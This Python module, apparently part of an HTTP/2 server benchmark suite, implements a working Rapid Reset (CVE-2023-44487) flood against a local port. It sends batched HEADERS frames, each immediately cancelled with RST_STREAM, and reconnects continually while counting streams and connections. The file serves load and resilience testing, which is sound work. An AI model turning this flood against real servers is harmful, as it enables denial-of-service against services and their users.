"""Rapid reset (CVE-2023-44487): one client that opens streams and resets them at once, as fast as the server reads.

    python -m bench.resets PORT     until standard input ends; then print the counts, as JSON

It has one connection at a time, and a new one as soon as that is closed. It runs when nothing else wants its processor:
the client whose latencies are measured is on the same one.
"""

import json
import os
import select
import socket
import struct
import sys
from time import sleep
from typing import Final

from bench.addresses import open_connection
from bench.http2 import END_HEADERS, END_STREAM, HEADERS, OPENING, RST_STREAM, make_block, make_frame
from bench.workloads import WORKLOADS

_CANCEL: Final = struct.pack(">L", 8)
_BATCH: Final = 256
"""Streams that are opened and reset with one write."""
_LAST: Final = 2**31 - 1
_PAUSE: Final = 0.01
"""Seconds before the next attempt where a connection is refused."""


class _Attack:
    """What is sent, and how often it was."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.block = make_block(WORKLOADS["h2-reset"])
        self.streams = self.connections = 0

    def run(self) -> None:
        """Until standard input ends."""
        while True:
            try:
                with open_connection(self.port, 1) as connection:
                    self.connections += 1
                    if self._flood(connection):
                        return
            except OSError:
                sleep(_PAUSE)
            if select.select([0], [], [], 0)[0]:
                return

    def _flood(self, connection: socket.socket) -> bool:
        """Send until the connection ends, or standard input. Returns: whether it was the latter."""
        connection.setblocking(False)
        descriptor = connection.fileno()
        stream, left = 1, OPENING
        while stream + 2 * _BATCH < _LAST:
            readable, writable, _ = select.select([0, descriptor], [descriptor], [])
            if 0 in readable:
                return True
            try:
                if descriptor in readable and not connection.recv(262_144):
                    break
                if writable:
                    left = left[connection.send(left) :]
            except BlockingIOError:
                continue
            except OSError:
                break
            if not left:
                self.streams += _BATCH if stream > 1 else 0
                left = b"".join(self._make_pair(number) for number in range(stream, stream + 2 * _BATCH, 2))
                stream += 2 * _BATCH
        return False

    def _make_pair(self, stream: int) -> bytes:
        opened = make_frame(HEADERS, END_HEADERS | END_STREAM, stream, self.block)
        return opened + make_frame(RST_STREAM, 0, stream, _CANCEL)


def main() -> None:
    """Attack the port that the argument names."""
    attack = _Attack(int(sys.argv[1]))
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    attack.run()
    sys.stdout.write(json.dumps({"streams": attack.streams, "connections": attack.connections}) + "\n")


if __name__ == "__main__":
    main()
